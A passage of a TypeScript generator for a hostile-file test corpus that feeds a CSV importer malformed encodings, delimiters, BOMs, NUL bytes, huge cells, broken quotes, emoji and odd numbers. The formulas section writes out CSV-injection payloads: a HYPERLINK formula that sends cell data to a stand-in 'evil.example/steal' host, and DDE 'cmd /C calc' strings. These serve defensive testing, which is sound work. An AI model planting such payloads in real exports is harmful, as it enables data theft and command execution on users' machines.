/**
 * The hostile-file corpus (issue 9, part 1): deterministic (seeded) files that try every way an
 * export can be broken — encodings and delimiters in every mix, BOMs in the middle, NUL bytes,
 * 1 MB cells, 100k columns, quotes never closed, CR/LF/CRLF mixes, formulas, emoji and RTL text,
 * hostile numbers and dates, duplicate headers, zip bombs disguised as workbooks, empty and
 * header-only files — each with what it exercises and the outcome the import must give:
 * refused with a code, or imported with these rows valid / rejected / merged / ignored and these
 * points in the file.
 *
 * The files are build output: written to .carryover/reliability/corpus/<size>/ with manifest.json,
 * never committed. `RELIABILITY_SIZE=full` makes the sized files big (1 MB cells stay, rows and
 * bombs grow).
 *
 *   npx tsx tests/reliability/corpus/generate.ts [--size quick|full] [--out <dir>]
 */
import fs from "node:fs";
import path from "node:path";
import { parseArgs } from "node:util";
import iconv from "iconv-lite";
import { mulberry32 } from "../../emulators/seeded-random";
import type { DuplicatePolicy, ImportFileErrorCode, ImportKind, ProviderId, RejectCode, RoundingRule } from "~domain/import/types";
import { entry, repeatedEntry, SHEET_HEAD, SHEET_TAIL, sheetRow, workbook, zip } from "./zip";

export type CorpusSize = "quick" | "full";

export type Expectation =
  | { outcome: "file-rejected"; code: ImportFileErrorCode }
  | {
      outcome: "imported";
      rowsTotal: number;
      rowsValid: number;
      rowsRejected: number;
      rowsMerged: number;
      rowsIgnored: number;
      /** Σ readable points of every data row, computed here from how each row was written. */
      pointsInFile: number;
      /** Reject codes that must appear among the rejected rows. */
      rejectCodes: RejectCode[];
      /** First names of the valid rows in file order, when the file checks decoding. */
      firstNames?: string[];
    };

export interface CorpusFile {
  /** File name inside the corpus folder (also the name given to the import). */
  file: string;
  /** The report's grouping: encodings, quotes, numbers, zip bombs… */
  group: string;
  /** What the file tries, in words. */
  exercises: string;
  kind: ImportKind;
  provider: ProviderId;
  duplicatePolicy?: DuplicatePolicy;
  rounding?: RoundingRule;
  expect: Expectation;
  bytes: number;
}

export interface CorpusManifest {
  seed: number;
  size: CorpusSize;
  files: CorpusFile[];
}

// ------------------------------------------------------------------------------- row model

type Fate = "valid" | "rejected" | "merged" | "ignored";
interface RowSpec {
  /** The cells as written, or the whole raw line when `line` is set. */
  cells: string[];
  line?: string;
  fate: Fate;
  /** Readable points the row carries into pointsInFile. */
  points: number;
  codes: RejectCode[];
}

const ok = (cells: string[], points: number): RowSpec => ({ cells, fate: "valid", points, codes: [] });
const bad = (cells: string[], points: number, ...codes: RejectCode[]): RowSpec => ({ cells, fate: "rejected", points, codes });
const merged = (cells: string[], points: number): RowSpec => ({ cells, fate: "merged", points, codes: [] });
const blankRow = (line = ""): RowSpec => ({ cells: [], line, fate: "ignored", points: 0, codes: [] });
const rawLine = (line: string, fate: Fate, points = 0, ...codes: RejectCode[]): RowSpec => ({ cells: [], line, fate, points, codes });

interface TextOptions {
  delimiter?: string;
  quote?: string;
  /** One line ending, or one per line (header first), cycled. */
  eol?: string | string[];
  finalEol?: boolean;
  quoteAll?: boolean;
}

function writeCell(value: string, delimiter: string, quote: string, first: boolean, quoteAll: boolean): string {
  const needs = quoteAll || value.includes(delimiter) || value.includes(quote) || /[\r\n]/.test(value) || (first && value.startsWith("#"));
  return needs ? quote + value.split(quote).join(quote + quote) + quote : value;
}

function csvText(header: readonly string[], rows: readonly RowSpec[], options: TextOptions = {}): string {
  const delimiter = options.delimiter ?? ",";
  const quote = options.quote ?? '"';
  const eols = Array.isArray(options.eol) ? options.eol : [options.eol ?? "\n"];
  const line = (cells: readonly string[]) => cells.map((c, i) => writeCell(c, delimiter, quote, i === 0, options.quoteAll ?? false)).join(delimiter);
  const lines = [line(header), ...rows.map((r) => r.line ?? line(r.cells))];
  let text = "";
  lines.forEach((l, i) => {
    const eol = eols[i % eols.length] ?? "\n";
    text += l + (i < lines.length - 1 || options.finalEol !== false ? eol : "");
  });
  return text;
}

function imported(rows: readonly RowSpec[], firstNames?: string[]): Expectation {
  const count = (fate: Fate) => rows.filter((r) => r.fate === fate).length;
  return {
    outcome: "imported",
    rowsTotal: rows.length,
    rowsValid: count("valid"),
    rowsRejected: count("rejected"),
    rowsMerged: count("merged"),
    rowsIgnored: count("ignored"),
    pointsInFile: rows.reduce((sum, r) => sum + r.points, 0),
    rejectCodes: [...new Set(rows.flatMap((r) => r.codes))],
    ...(firstNames && { firstNames }),
  };
}

const refused = (code: ImportFileErrorCode): Expectation => ({ outcome: "file-rejected", code });

type Encoding = "utf-8" | "utf-8-bom" | "windows-1252" | "iso-8859-1" | "utf-16le-bom" | "utf-16be-bom" | "utf-16le";

function encode(text: string, encoding: Encoding): Buffer {
  switch (encoding) {
    case "utf-8":
      return Buffer.from(text, "utf8");
    case "utf-8-bom":
      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, "utf8")]);
    case "windows-1252":
      return iconv.encode(text, "win1252");
    case "iso-8859-1":
      return iconv.encode(text, "latin1");
    case "utf-16le-bom":
      return Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, "utf16le")]);
    case "utf-16be-bom":
      return Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, "utf16-be")]);
    case "utf-16le":
      return iconv.encode(text, "utf16le");
  }
}

// ------------------------------------------------------------------------------- the corpus

interface Pending {
  file: string;
  group: string;
  exercises: string;
  kind?: ImportKind;
  provider?: ProviderId;
  duplicatePolicy?: DuplicatePolicy;
  rounding?: RoundingRule;
  expect: Expectation;
  content: Buffer | (() => Promise<Buffer>);
}

/** Latin-1 letters (every one in ISO-8859-1 and Windows-1252). */
const LATIN1_NAMES = ["José", "Conceição", "Zoë", "Müller", "Ñandú", "François", "Ærø", "Gonçalves"];

export async function generateCorpus(options: { size: CorpusSize; outDir: string; seed?: number }): Promise<CorpusManifest> {
  const seed = options.seed ?? 20260209;
  const random = mulberry32(seed);
  const int = (min: number, max: number) => min + Math.floor(random() * (max - min + 1));
  const full = options.size === "full";
  const files: Pending[] = [];
  const add = (p: Pending) => {
    if (files.some((f) => f.file === p.file)) throw new Error(`corpus file ${p.file} twice`);
    files.push(p);
  };
  let customer = 0;
  const email = () => `c${++customer}.${int(100, 999)}@example.com`;
  const balances = (n: number, names = LATIN1_NAMES): RowSpec[] =>
    Array.from({ length: n }, (_, i) => {
      const points = int(0, 5000);
      return ok([email(), String(points), names[i % names.length] ?? "Ana"], points);
    });
  const HEADER = ["email", "points", "first_name"];
  const utf8 = (text: string) => Buffer.from(text, "utf8");

  // ---------------------------------------------------------------- encodings × delimiters × EOLs
  const encodings: Encoding[] = ["utf-8", "utf-8-bom", "windows-1252", "iso-8859-1"];
  const delimiters: [string, string][] = [
    [",", "comma"],
    [";", "semicolon"],
    ["\t", "tab"],
  ];
  const eols: [string, string][] = [
    ["\n", "lf"],
    ["\r\n", "crlf"],
    ["\r", "cr"],
  ];
  for (const encoding of encodings) {
    for (const [delimiter, dname] of delimiters) {
      for (const [eol, ename] of eols) {
        const rows = balances(8);
        // A name with the delimiter and a quote inside: must come back whole.
        rows.push(ok([email(), "42", `Silva${delimiter} "Ana"`], 42));
        add({
          file: `enc-${encoding}-${dname}-${ename}.${delimiter === "\t" ? "tsv" : "csv"}`,
          group: "encodings and delimiters",
          exercises: `${encoding} text, ${dname}-separated, ${ename} line endings, accented names and a quoted cell holding the delimiter and quotes`,
          expect: imported(rows, rows.map((r) => r.cells[2] ?? "")),
          content: encode(csvText(HEADER, rows, { delimiter, eol }), encoding),
        });
      }
    }
  }
  {
    const rows = balances(6, ["Œuvre", "€uro", "Šárka", "Ždan", "“Bia”", "Ÿves"]);
    add({
      file: "enc-windows-1252-only-letters.csv",
      group: "encodings and delimiters",
      exercises: "Windows-1252 letters that ISO-8859-1 does not have (Œ € Š Ž “ ” Ÿ), bytes 0x80–0x9F",
      expect: imported(rows, rows.map((r) => r.cells[2] ?? "")),
      content: encode(csvText(HEADER, rows), "windows-1252"),
    });
  }
  for (const [quoteName, quote] of [
    ["single", "'"],
    ["double-all", '"'],
  ] as const) {
    const rows = balances(6);
    add({
      file: `quote-${quoteName}.csv`,
      group: "encodings and delimiters",
      exercises: `every cell wrapped in ${quoteName === "single" ? "single quotes" : "double quotes"}`,
      expect: imported(rows, rows.map((r) => r.cells[2] ?? "")),
      content: utf8(csvText(HEADER, rows, { quote, quoteAll: true })),
    });
  }
  for (const encoding of ["utf-16le-bom", "utf-16be-bom", "utf-16le"] as const) {
    add({
      file: `enc-${encoding}.csv`,
      group: "encodings and delimiters",
      exercises: `${encoding} text ("Unicode text" from Excel): refused with advice to save as CSV UTF-8`,
      expect: refused("BINARY_FILE"),
      content: encode(csvText(HEADER, balances(5)), encoding),
    });
  }
  {
    // Half the rows written in UTF-8, half in Windows-1252: no reading is right.
    const a = balances(10, ["José", "Conceição", "Gonçalves", "Ñandú", "Zoë"]);
    const b = balances(10, ["José", "Conceição", "Gonçalves", "Ñandú", "Zoë"]);
    add({
      file: "enc-mixed-substantial.csv",
      group: "encodings and delimiters",
      exercises: "two exports pasted together, one UTF-8 and one Windows-1252, both with many accented letters",
      expect: refused("MIXED_ENCODING"),
      content: Buffer.concat([encode(csvText(HEADER, a), "utf-8"), encode(csvText([], b).replace(/^\n/, ""), "windows-1252")]),
    });
    const c = balances(12, ["José", "Conceição", "Gonçalves", "Ñandú", "Zoë", "Müller"]);
    const odd = ok([email(), "7", "Jo\uFFFDo"], 7);
    const text = Buffer.concat([encode(csvText(HEADER, c), "utf-8"), Buffer.from(`${odd.cells[0]},7,Jo`), Buffer.from([0xe3]), Buffer.from("o\n")]);
    const rows = [...c, odd];
    add({
      file: "enc-mixed-one-byte.csv",
      group: "encodings and delimiters",
      exercises: "a UTF-8 file with one stray Windows-1252 byte: read as UTF-8, the byte shown as �",
      expect: imported(rows, rows.map((r) => r.cells[2] ?? "")),
      content: text,
    });
    const rows2 = balances(6);
    const cyrillic = iconv.encode(csvText(HEADER, rows2).replace(/first_name/, "first_name").replace(/José/g, "Иван"), "win1251");
    add({
      file: "enc-windows-1251.csv",
      group: "encodings and delimiters",
      exercises: "Cyrillic Windows-1251 text: read as Windows-1252 with a note (names garbled, rows still counted)",
      expect: imported(rows2),
      content: cyrillic,
    });
    const rows3 = balances(30);
    const overlong = Buffer.concat([utf8(csvText(HEADER, rows3)), utf8(`${email()},5,A`), Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80]), utf8("\n")]);
    rows3.push(ok(["", "5", ""], 5));
    add({
      file: "enc-overlong-and-surrogate-bytes.csv",
      group: "encodings and delimiters",
      exercises: "an overlong UTF-8 sequence and a UTF-8-encoded surrogate (CESU) in a name of a UTF-8 file: read as UTF-8, the bad bytes shown as �",
      expect: imported(rows3),
      content: overlong,
    });
  }

  // ---------------------------------------------------------------------------- BOM in the middle
  {
    const a = balances(5);
    const b = balances(5);
    const rows = [...a, bad(HEADER, 0, "INVALID_EMAIL", "INVALID_POINTS"), ...b];
    add({
      file: "bom-concatenated-exports.csv",
      group: "BOMs and NUL bytes",
      exercises: "two exports concatenated: a BOM and a second header line in the middle of the file",
      expect: imported(rows),
      content: Buffer.concat([encode(csvText(HEADER, a), "utf-8-bom"), encode(csvText(HEADER, b), "utf-8-bom")]),
    });
    const c = balances(4);
    const withBom = ok([`\uFEFF${email()}`, "12", "Bia"], 12);
    const rows2 = [...c, withBom, ...balances(2)];
    add({
      file: "bom-before-a-row.csv",
      group: "BOMs and NUL bytes",
      exercises: "a BOM at the start of a data row (an e-mail cell starting with U+FEFF)",
      expect: imported(rows2),
      content: utf8(csvText(HEADER, rows2)),
    });
    const rows3 = [ok([email(), "3", "Ana\uFEFFMaria"], 3), ok([email(), "4", "\uFEFF"], 4), ...balances(3)];
    add({
      file: "bom-inside-cells.csv",
      group: "BOMs and NUL bytes",
      exercises: "U+FEFF inside a name and as a whole cell",
      expect: imported(rows3),
      content: utf8(csvText(HEADER, rows3)),
    });
    add({
      file: "bom-only.csv",
      group: "empty files",
      exercises: "a file holding only a UTF-8 BOM",
      expect: refused("EMPTY_FILE"),
      content: Buffer.from([0xef, 0xbb, 0xbf]),
    });
  }

  // ---------------------------------------------------------------------------------- NUL bytes
  {
    add({
      file: "nul-in-header.csv",
      group: "BOMs and NUL bytes",
      exercises: "a NUL byte in the header line",
      expect: refused("BINARY_FILE"),
      content: utf8(`email\u0000,points\n${email()},5\n`),
    });
    add({
      file: "nul-padding-at-end.csv",
      group: "BOMs and NUL bytes",
      exercises: "an export padded with 4 KiB of NUL bytes at the end (a preallocated, cut file)",
      expect: refused("BINARY_FILE"),
      content: Buffer.concat([utf8(csvText(HEADER, balances(5))), Buffer.alloc(4096)]),
    });
    // Past the 256 KiB that detection looks at: the reader itself must deal with the NUL.
    const filler = balances(full ? 40_000 : 9_000);
    const nulRow = rawLine(`${email()},77,Ana\u0000Maria`, "rejected", 0, "MALFORMED_ROW");
    const rows = [...filler, nulRow, ...balances(3)];
    add({
      file: "nul-past-the-sample.csv",
      group: "BOMs and NUL bytes",
      exercises: "a NUL byte in a name cell past the first 256 KiB (detection does not see it): that row is rejected, the rest read",
      expect: imported(rows),
      content: utf8(csvText(HEADER, rows)),
    });
  }

  // ------------------------------------------------------------------------------- 1 MB cells
  {
    const big = (n: number) => "x".repeat(n);
    const fits = 200 * 1024;
    const rows = [...balances(3), ok([email(), "9", `Ana ${big(fits)}`], 9), ...balances(2)];
    add({
      file: "cell-200k-name.csv",
      group: "huge cells and columns",
      exercises: "a 200 KiB first-name cell (under the 1,000,000-character line limit): imported as written",
      expect: imported(rows),
      content: utf8(csvText(HEADER, rows)),
    });
    const rows2 = [...balances(3), rawLine(`${email()},11,${big(1024 * 1024)}`, "rejected", 0, "MALFORMED_ROW"), ...balances(3)];
    add({
      file: "cell-1mb-name.csv",
      group: "huge cells and columns",
      exercises: "a 1 MiB name cell on one line: the line is refused as over-long, the others read",
      expect: imported(rows2),
      content: utf8(csvText(HEADER, rows2)),
    });
    const rows3 = [...balances(3), rawLine(`${email()},13,"${big(1024 * 1024)}"`, "rejected", 0, "MALFORMED_ROW"), ...balances(2)];
    add({
      file: "cell-1mb-quoted.csv",
      group: "huge cells and columns",
      exercises: "a 1 MiB quoted cell",
      expect: imported(rows3),
      content: utf8(csvText(HEADER, rows3)),
    });
    // A quoted cell of 1 MiB spread over 2,000 lines: over both the line and the character limit.
    const multi = Array.from({ length: 2000 }, () => big(524)).join("\n");
    const tail = balances(2);
    const lines = multi.split("\n");
    const rows4: RowSpec[] = [
      ...balances(2),
      rawLine(`${email()},17,"${lines[0]}`, "rejected", 0, "MALFORMED_ROW"),
      // The lines after the stray quote are read again: each is one cell of x's, not an e-mail, no points.
      ...lines.slice(1, -1).map((l) => rawLine(l, "rejected", 0, "INVALID_EMAIL", "MISSING_POINTS")),
      rawLine(`${lines[lines.length - 1]}"`, "rejected", 0, "INVALID_EMAIL", "MISSING_POINTS"),
      ...tail,
    ];
    add({
      file: "cell-1mb-multiline.csv",
      group: "huge cells and columns",
      exercises: "a quoted cell of 1 MiB over 2,000 lines: the open quote is given up after 1,000 lines and the lines are read again",
      expect: imported(rows4),
      content: utf8(csvText(HEADER, rows4)),
    });
    add({
      file: "cell-1mb-header.csv",
      group: "huge cells and columns",
      exercises: "a header whose first name is 1 MiB long (no line break in the first 256 KiB)",
      expect: refused("NO_HEADER"),
      content: utf8(`${big(1024 * 1024)},email,points\n${email()},1,2\n`),
    });
    const digits = "9".repeat(1024 * 1024);
    const rows5 = [...balances(2), rawLine(`${email()},${digits},Ana`, "rejected", 0, "MALFORMED_ROW"), ...balances(2)];
    add({
      file: "cell-1mb-number.csv",
      group: "huge cells and columns",
      exercises: "a points cell of a million digits",
      expect: imported(rows5),
      content: utf8(csvText(HEADER, rows5)),
    });
    const rows6 = [...balances(2), bad([email(), "9".repeat(300), "Ana"], 0, "POINTS_OVER_CAP"), bad([email(), "9".repeat(400), "Bia"], 0, "INVALID_POINTS"), ...balances(2)];
    add({
      file: "number-300-and-400-digits.csv",
      group: "numbers",
      exercises: "points cells of 300 digits (a finite double far past the cap) and 400 digits (past any double): rejected, counted as 0 points",
      expect: imported(rows6),
      content: utf8(csvText(HEADER, rows6)),
    });
    if (full) {
      const rows7 = [...balances(2), rawLine(`${email()},1,${big(16 * 1024 * 1024)}`, "rejected", 0, "MALFORMED_ROW"), ...balances(2)];
      add({
        file: "cell-16mb-name.csv",
        group: "huge cells and columns",
        exercises: "a 16 MiB cell",
        expect: imported(rows7),
        content: utf8(csvText(HEADER, rows7)),
      });
    }
  }

  // ------------------------------------------------------------------------------ 100k columns
  {
    const wide = (n: number, first: string[]) => [...first, ...Array.from({ length: n - first.length }, (_, i) => `extra_${i + 1}`)];
    const header = wide(100_000, ["email", "points"]);
    add({
      file: "columns-100k.csv",
      group: "huge cells and columns",
      exercises: "100,000 columns (a header line far longer than the 256 KiB detection reads)",
      expect: refused("NO_HEADER"),
      content: utf8(`${header.join(",")}\n${[email(), "5", ...Array.from({ length: 99_998 }, () => "")].join(",")}\n`),
    });
    const cols = full ? 16_384 : 4_000;
    const header2 = wide(cols, ["email", "points"]);
    const rows: RowSpec[] = Array.from({ length: 3 }, () => {
      const p = int(1, 100);
      return ok([email(), String(p), ...Array.from({ length: cols - 2 }, (_, i) => (i % 7 === 0 ? "v" : ""))], p);
    });
    add({
      file: `columns-${cols}.csv`,
      group: "huge cells and columns",
      exercises: `${cols.toLocaleString("en")} columns, the identity and points first: every cell kept in the raw data`,
      expect: imported(rows),
      content: utf8(csvText(header2, rows)),
    });
    const header3 = wide(cols, []);
    add({
      file: `columns-${cols}-no-identity.csv`,
      group: "huge cells and columns",
      exercises: `${cols.toLocaleString("en")} columns, none of them an identity: refused with a bounded list of the columns found`,
      expect: refused("NO_IDENTITY_COLUMN"),
      content: utf8(`${header3.join(",")}\n${header3.map(() => "1").join(",")}\n`),
    });
    const header4 = ["email", "points", "email", "points", ...wide(200, [])];
    const rows4 = balances(3).map((r) => ({ ...r, cells: [r.cells[0] ?? "", r.cells[1] ?? "", "other@example.com", "999999", ...Array.from({ length: 200 }, () => "")] }));
    add({
      file: "columns-duplicate-headers.csv",
      group: "headers",
      exercises: "email and points headers twice: the first columns are read, the repeats kept raw",
      expect: imported(rows4),
      content: utf8(csvText(header4, rows4)),
    });
  }

  // ---------------------------------------------------------------------------------- quotes
  {
    const a = balances(3);
    const b = balances(3);
    const rows = [...a, rawLine(`"${email()},50,Ana`, "rejected", 0, "MALFORMED_ROW"), ...b];
    add({
      file: "quote-never-closed-middle.csv",
      group: "quotes",
      exercises: "a quote opened in the middle of the file and never closed",
      expect: imported(rows),
      content: utf8(csvText(HEADER, rows)),
    });
    const rows2 = [...balances(4), rawLine(`${email()},60,"Ana`, "rejected", 0, "MALFORMED_ROW")];
    add({
      file: "quote-never-closed-last-line.csv",
      group: "quotes",
      exercises: "the last line opens a quote and the file ends",
      expect: imported(rows2),
      content: utf8(csvText(HEADER, rows2)),
    });
    add({
      file: "quote-never-closed-header.csv",
      group: "quotes",
      exercises: "the header opens a quote that never closes",
      expect: refused("NO_HEADER"),
      content: utf8(`"email,points\n${email()},1\n`),
    });
    // A stray quote followed by 1,500 ordinary lines: given up after 1,000 lines, the rest re-read.
    const after = balances(1500);
    const rows3 = [...balances(2), rawLine(`${email()},70,"Ana`, "rejected", 0, "MALFORMED_ROW"), ...after];
    add({
      file: "quote-swallows-1500-lines.csv",
      group: "quotes",
      exercises: "a stray quote that would swallow 1,500 lines: its line is rejected, the lines after it read again",
      expect: imported(rows3),
      content: utf8(csvText(HEADER, rows3)),
    });
    const rows4 = [...balances(2), rawLine(`${email()},80,"Ana`, "rejected", 0, "MALFORMED_ROW"), rawLine(`Maria" Souza,90,x`, "rejected", 90, "INVALID_EMAIL"), ...balances(2)];
    add({
      file: "quote-closes-oddly.csv",
      group: "quotes",
      exercises: "a quoted cell that runs onto the next line and closes in the middle of a cell",
      expect: imported(rows4),
      content: utf8(csvText(HEADER, rows4)),
    });
    const rows5 = [ok([email(), "5", 'Ana "Bia" Souza'], 5), ok([email(), "6", "O'Brien"], 6), ok([email(), "7", '""'], 7), ...balances(2)];
    add({
      file: "quote-inside-unquoted-cells.csv",
      group: "quotes",
      exercises: "quotes in the middle of unquoted cells (relaxed quotes), an apostrophe, a cell of two quotes",
      expect: imported(rows5),
      content: utf8(csvText(HEADER, [rawLine(rows5[0]!.cells.join(","), "valid"), rawLine(rows5[1]!.cells.join(","), "valid"), rawLine(`${rows5[2]!.cells[0]},7,""""""`, "valid"), ...rows5.slice(3)])),
    });
    const rows6 = [ok([email(), "21", "Ana\nMaria"], 21), ok([email(), "22", "Bia\r\nSouza"], 22), ...balances(3)];
    add({
      file: "quote-multiline-cells.csv",
      group: "quotes",
      exercises: "quoted cells holding LF and CRLF line breaks",
      expect: imported(rows6),
      content: utf8(csvText(HEADER, rows6)),
    });
  }

  // ----------------------------------------------------------------------------- line endings
  {
    const rows = balances(12);
    add({
      file: "eol-mixed-per-line.csv",
      group: "line endings",
      exercises: "LF, CRLF and CR endings mixed line by line",
      expect: imported(rows),
      content: utf8(csvText(HEADER, rows, { eol: ["\n", "\r\n", "\r", "\r\n", "\n", "\r"] })),
    });
    const six = balances(6);
    const rows2 = [blankRow(), ...six.flatMap((r) => [r, blankRow()])];
    add({
      file: "eol-cr-cr-lf.csv",
      group: "line endings",
      exercises: "CR CR LF endings (a CRLF file converted twice): a blank line after every line",
      expect: imported(rows2),
      content: utf8(csvText(HEADER, six, { eol: "\r\n" }).replace(/\r\n/g, "\r\r\n")),
    });
    const rows3 = balances(5);
    add({
      file: "eol-no-final-newline.csv",
      group: "line endings",
      exercises: "no line ending after the last row",
      expect: imported(rows3),
      content: utf8(csvText(HEADER, rows3, { finalEol: false })),
    });
    const rows4 = [...balances(3), blankRow(), blankRow("   "), blankRow(",,,"), blankRow(" , ,"), rawLine("# a comment", "ignored"), ...balances(2), blankRow()];
    add({
      file: "eol-blank-and-comment-lines.csv",
      group: "line endings",
      exercises: "blank lines, whitespace lines, lines of bare delimiters and # comments between rows",
      expect: imported(rows4),
      content: utf8(csvText(HEADER, rows4)),
    });
    const rows5 = [ok([email(), "31", "Ana\u2028Maria"], 31), ok([email(), "32", "Bia\u0085Souza"], 32), ok([email(), "33", "Cia\u000bVert"], 33), ...balances(2)];
    add({
      file: "eol-unicode-separators.csv",
      group: "line endings",
      exercises: "U+2028, NEL and vertical tab inside cells (not line endings)",
      expect: imported(rows5),
      content: utf8(csvText(HEADER, rows5)),
    });
  }

  // ------------------------------------------------------------------------------- formulas
  {
    const formulas = ['=HYPERLINK("http://evil.example/steal?x="&A2,"Click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "=1+1"];
    const rows = formulas.map((f) => ok([email(), String(int(1, 99)), f], 0)).map((r) => ({ ...r, points: Number(r.cells[1]) }));
    add({
      file: "formula-in-names.csv",
      group: "formulas",
      exercises: "spreadsheet formulas in name cells (=HYPERLINK, +cmd, -2+3, @SUM, tab-prefixed): kept as text, never evaluated",
      expect: imported(rows, formulas.map((f) => f.trim())),
      content: utf8(csvText(HEADER, rows)),
    });
    const rows2 = [
      bad([formulas[0]!, "10", "Ana"], 10, "INVALID_EMAIL"),
      bad([email(), "=1+1", "Bia"], 0, "INVALID_POINTS"),
      bad(["@SUM(A1)", "=HYPERLINK(\"x\")", "Cia"], 0, "INVALID_EMAIL", "INVALID_POINTS"),
      ...balances(2),
    ];
    add({
      file: "formula-in-identity-and-points.csv",
      group: "formulas",
      exercises: "formulas as the e-mail and as the points: rejected, and the rejected-rows CSV neutralises them",
      expect: imported(rows2),
      content: utf8(csvText(HEADER, rows2)),
    });
    const header = ["=cmd|' /C calc'!A0", "email", "points"];
    const rows3 = [ok(["x", email(), "5"], 5), bad(["y", "not-an-email", "6"], 6, "INVALID_EMAIL")];
    add({
      file: "formula-in-header.csv",
      group: "formulas",
      exercises: "a formula as a column name",
      expect: imported(rows3),
      content: utf8(csvText(header, rows3)),
    });
  }

  // ----------------------------------------------------------------------------- emoji and RTL
  {
    const names = ["👩‍💻 Ana", "محمد", "שָׁלוֹם", "Ana\u202Emoc.live", "🏳️‍🌈", "\u200F\u200Eعلي", "Zalgo Z̷̢̛̛a̸͌l̶g̷o̵"];
    const rows = names.map((n) => {
      const p = int(1, 500);
      return ok([email(), String(p), n], p);
    });
    add({
      file: "emoji-and-rtl-names.csv",
      group: "emoji and RTL",
      exercises: "emoji, ZWJ sequences, Arabic and Hebrew names, RTL override and marks, combining characters",
      expect: imported(rows, names),
      content: utf8(csvText(HEADER, rows)),
    });
    const rows2 = [
      ok(["ana@exämple.com", "5", "Ana"], 5),
      ok(["用户@例子.广告", "6", "Li"], 6),
      bad(["ana\u202E@example.com", "7", "Eve"], 7, "INVALID_EMAIL"),
      bad(["ana\u200B@example.com", "8", "Zed"], 8, "INVALID_EMAIL"),
      ok(["😀@example.com", "9", "Emo"], 9),
      ...balances(2),
    ];
    add({
      file: "emoji-and-rtl-emails.csv",
      group: "emoji and RTL",
      exercises: "internationalised e-mails (kept) and e-mails hiding an RTL override, a zero-width space or a control character (rejected)",
      expect: imported(rows2),
      content: utf8(csvText(HEADER, rows2)),
    });
    const header = ["البريد الإلكتروني", "email", "نقاط", "points"];
    const rows3 = balances(3).map((r) => ({ ...r, cells: ["x", r.cells[0] ?? "", "y", r.cells[1] ?? ""] }));
    add({
      file: "emoji-and-rtl-headers.csv",
      group: "emoji and RTL",
      exercises: "Arabic column names beside the recognised ones",
      expect: imported(rows3),
      content: utf8(csvText(header, rows3)),
    });
    const rows4 = balances(3);
    add({
      file: "emoji-only-headers.csv",
      group: "emoji and RTL",
      exercises: "a header of emoji only: no column can be recognised",
      expect: refused("NO_IDENTITY_COLUMN"),
      content: utf8(csvText(["📧", "💯", "🙂"], rows4)),
    });
  }

  // ---------------------------------------------------------------------------------- numbers
  {
    const numberCases: { name: string; value: string; fate: "valid" | "rejected"; points: number; code?: RejectCode; semicolon?: boolean; provider?: ProviderId }[] = [
      { name: "scientific-1e9", value: "1e9", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "scientific-1E+06", value: "1E+06", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "nan", value: "NaN", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "infinity", value: "-Infinity", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "negative-zero", value: "-0", fate: "valid", points: 0 },
      { name: "negative", value: "-5", fate: "rejected", points: -5, code: "NEGATIVE_POINTS" },
      { name: "unicode-minus", value: "\u221242", fate: "rejected", points: -42, code: "NEGATIVE_POINTS" },
      { name: "plus-sign", value: "+7", fate: "valid", points: 7 },
      { name: "leading-zeros", value: "007", fate: "valid", points: 7 },
      { name: "brazilian-1.234.567,89", value: "1.234.567,89", fate: "rejected", points: 0, code: "FRACTIONAL_POINTS", semicolon: true, provider: "bonifiq" },
      { name: "brazilian-1.234.567", value: "1.234.567", fate: "valid", points: 1_234_567, semicolon: true, provider: "bonifiq" },
      // The file's only decimal number decides its decimal mark: comma, so 1234567.89 has decimals.
      { name: "dot-file-1.234.567,89", value: "1.234.567,89", fate: "rejected", points: 0, code: "FRACTIONAL_POINTS" },
      { name: "arabic-indic-digits", value: "٣٤٥", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "devanagari-digits", value: "१२३", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "fullwidth-digits", value: "１２３", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "nbsp-thousands", value: "1\u00a0234", fate: "valid", points: 1234 },
      { name: "narrow-nbsp-thousands", value: "12\u202f345", fate: "valid", points: 12_345 },
      { name: "accounting-negative", value: "(100)", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "with-unit", value: "100 pts", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "currency", value: "R$ 100", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "hex", value: "0x1F", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "underscore", value: "1_000", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "fraction", value: "10.5", fate: "rejected", points: 0, code: "FRACTIONAL_POINTS" },
      { name: "over-cap", value: "150000000", fate: "rejected", points: 150_000_000, code: "POINTS_OVER_CAP" },
      { name: "over-int32", value: "2147483648", fate: "rejected", points: 0, code: "POINTS_OVER_CAP" },
      { name: "over-2^53", value: "9007199254740993", fate: "rejected", points: 0, code: "POINTS_OVER_CAP" },
      { name: "empty", value: "", fate: "rejected", points: 0, code: "MISSING_POINTS" },
      { name: "whitespace", value: " \u00a0 ", fate: "rejected", points: 0, code: "MISSING_POINTS" },
      { name: "two-signs", value: "--5", fate: "rejected", points: 0, code: "INVALID_POINTS" },
      { name: "misplaced-thousands", value: "12,34,567", fate: "rejected", points: 0, code: "INVALID_POINTS" },
    ];
    for (const c of numberCases) {
      const rows = [ok([email(), "10", "Ana"], 10), c.fate === "valid" ? ok([email(), c.value, "Bia"], c.points) : bad([email(), c.value, "Bia"], c.points, c.code!), ok([email(), "20", "Cia"], 20)];
      add({
        file: `number-${c.name}.csv`,
        group: "numbers",
        exercises: `points written ${JSON.stringify(c.value)}${c.semicolon ? " in a semicolon file with comma decimals" : ""}`,
        provider: c.provider,
        expect: imported(rows),
        content: utf8(csvText(HEADER, rows, { delimiter: c.semicolon ? ";" : "," })),
      });
    }
    const rows = [ok([email(), "10,4", "Ana"], 10), ok([email(), "10,5", "Bia"], 11), ok([email(), "1.234,5", "Cia"], 1235)];
    add({
      file: "number-rounding-round.csv",
      group: "numbers",
      exercises: "decimal points with the merchant's rounding rule (round), comma decimals",
